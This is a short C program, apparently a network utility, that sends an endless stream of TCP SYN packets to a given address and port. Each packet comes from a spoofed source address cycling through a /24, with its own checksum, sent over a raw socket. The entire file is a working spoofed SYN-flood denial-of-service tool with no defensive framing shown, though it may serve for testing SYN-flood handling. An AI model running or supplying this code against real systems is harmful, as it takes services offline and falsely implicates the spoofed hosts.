// SPDX-License-Identifier: GPL-2.0-only
/*
 * syns ADDRESS PORT SOURCE: SYNs from all addresses of the /24 that SOURCE is in, as fast as
 * it can, until it is killed. A stream of handshakes that nobody goes on with.
 */
#include <arpa/inet.h>
#include <err.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <stdint.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>

struct packet {
	struct iphdr ip;
	struct tcphdr tcp;
};

static uint32_t sum(const void *data, size_t len)
{
	const char *at = data;
	uint32_t total = 0;
	uint16_t word;

	for (; len; len -= sizeof(word), at += sizeof(word)) {
		memcpy(&word, at, sizeof(word));
		total += word;
	}
	return total;
}

static uint16_t checksum(const struct packet *p)
{
	const struct {
		uint32_t from, to;
		uint16_t protocol, len;
	} pseudo = { p->ip.saddr, p->ip.daddr, htons(IPPROTO_TCP), htons(sizeof(p->tcp)) };
	uint32_t total = sum(&pseudo, sizeof(pseudo)) + sum(&p->tcp, sizeof(p->tcp));

	while (total >> 16)
		total = (total & 0xffff) + (total >> 16);
	return ~total;
}

int main(int argc, char **argv)
{
	struct sockaddr_in to = { .sin_family = AF_INET };
	struct packet p = { };
	uint32_t source, n = 0;
	int fd;

	if (argc != 4)
		errx(2, "usage: syns ADDRESS PORT SOURCE");
	to.sin_addr.s_addr = inet_addr(argv[1]);
	source = ntohl(inet_addr(argv[3])) & ~255u;
	fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
	if (fd < 0)
		err(1, "socket");
	p.ip.version = 4;
	p.ip.ihl = sizeof(p.ip) / 4;
	p.ip.ttl = 64;
	p.ip.protocol = IPPROTO_TCP;
	p.ip.daddr = to.sin_addr.s_addr;
	p.tcp.dest = htons(atoi(argv[2]));
	p.tcp.doff = sizeof(p.tcp) / 4;
	p.tcp.syn = 1;
	p.tcp.window = htons(65535);
	for (;; n++) {
		p.ip.saddr = htonl(source + 1 + n % 254);
		p.tcp.source = htons(1024 + n / 254 % 60000);
		p.tcp.seq = n * 2654435761u;
		p.tcp.check = 0;
		p.tcp.check = checksum(&p);
		/* No room: the more the better, but not for ever in vain. */
		if (sendto(fd, &p, sizeof(p), 0, (struct sockaddr *)&to, sizeof(to)) < 0)
			continue;
	}
}
